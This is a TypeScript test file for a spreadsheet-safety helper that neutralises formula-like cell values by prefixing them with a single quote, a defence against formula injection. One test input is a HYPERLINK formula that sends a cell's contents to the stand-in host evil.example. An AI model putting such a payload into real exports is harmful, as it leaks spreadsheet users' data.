import { isFormulaLike, neutraliseFormula, safeCell } from './spreadsheet-safety';

describe('spreadsheet safety', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
      `'=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")`,
    ],
    ['+84 912 345 678', `'+84 912 345 678`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
  ])('prefixes %j with a single quote', (input, expected) => {
    expect(isFormulaLike(input)).toBe(true);
    expect(neutraliseFormula(input)).toBe(expected);
  });

  it.each(['Nguyễn Thị Hồng Nhung', 'Sở Ngoại vụ', '', ' =not first', "'=already quoted", 'a=b'])(
    'leaves %j alone',
    (input) => {
      expect(neutraliseFormula(input)).toBe(input);
    },
  );

  it('keeps numbers and dates as they are, negative numbers included', () => {
    const date = new Date('2025-03-08T07:00:00Z');
    expect(safeCell(-5)).toBe(-5);
    expect(safeCell(date)).toBe(date);
    expect(safeCell(null)).toBeNull();
    expect(safeCell('=1')).toBe("'=1");
  });
});
